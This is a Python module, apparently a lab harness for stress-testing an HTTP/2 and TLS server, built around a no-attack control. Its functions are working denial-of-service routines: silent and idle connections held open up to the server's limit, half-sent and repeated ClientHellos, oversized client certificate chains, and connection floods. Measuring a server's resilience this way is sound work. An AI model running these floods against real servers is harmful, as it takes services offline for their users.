"""Attacks below HTTP: on connections and on TLS handshakes."""
import socket
import ssl

import ground
import http2


def control(site):
    """No attack: the attackers' core is as busy as with one. What the good client feels of it is the machine's own."""
    ours, theirs = socket.socketpair()
    while not site.is_over():
        ours.sendall(bytes(1 << 15))
        theirs.recv(1 << 16)
    ours.close()
    theirs.close()


def silent_connections(site):
    """Cleartext connections that say nothing, as many as the server takes."""
    site.silent(site.http2, site.most(10100))


def silent_handshakes(site):
    """The same at the TLS listener."""
    site.silent(site.tls, site.most(5000))


def half_client_hellos(site):
    """TLS handshakes that stop in the middle of their first message."""
    hello = ground.client_hello()
    site.silent(site.tls, site.most(5000), hello[:len(hello) // 2])


def whole_client_hellos(site):
    """A first message costs the server a key exchange and a signature, and who sent it nothing: it was made once."""
    hello = ground.client_hello()
    while not site.is_over():
        try:
            one = socket.create_connection(site.tls, timeout=2)
            one.sendall(hello)
            site.seen["answered"] += 1 if one.recv(1 << 14) else 0
            ground.vanish(one)
        except OSError as error:
            site.seen["refused: " + type(error).__name__] += 1


def unread_client_hellos(site):
    """The same without waiting for the answer, a hundred at a time."""
    hello = ground.client_hello()
    while not site.is_over():
        wave = []
        for _ in range(100):
            try:
                wave.append(socket.create_connection(site.tls, timeout=2))
                wave[-1].sendall(hello)
                site.seen["connected"] += 1
            except OSError as error:
                site.seen["refused: " + type(error).__name__] += 1
        for one in wave:
            ground.vanish(one)


def idle_connections(site):
    """Connections that ask for one thing, and nothing more, as many as the server takes: they are no silent ones."""
    block = http2.request_block("GET", "localhost", "/health")
    request = http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, block)
    site.silent(site.http2, site.most(10100), http2.PREFACE + http2.settings() + request)


def handshakes_with_long_chains(site):
    """Whole handshakes with certificates of a CA that nobody knows, as many in one chain as the server reads."""
    pki = site.target.lab.folder / "strangers"
    site.target.lab.run_ue_sim("pki", "--force", "--out", pki)
    leaf, anchor = ((pki / name).read_text() for name in ("tls-ue-sim.pem", "tls-ca.pem"))
    chain = pki / "chain.pem"
    chain.write_text(leaf + anchor * (15 * 1024 // len(ssl.PEM_cert_to_DER_cert(anchor))))
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(chain, pki / "tls-ue-sim.key")
    while not site.is_over():
        try:
            one = socket.create_connection(site.tls, timeout=2)
            one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            with context.wrap_socket(one) as one:
                while one.recv(1 << 14):
                    pass
            site.seen["closed"] += 1
        except ssl.SSLError as error:
            site.seen[error.reason] += 1
        except OSError as error:
            site.seen["refused: " + type(error).__name__] += 1


def connection_flood(site):
    """Connections that come and go."""
    while not site.is_over():
        try:
            ground.vanish(socket.create_connection(site.http2, timeout=2))
            site.seen["connected"] += 1
        except OSError as error:
            site.seen["refused: " + type(error).__name__] += 1
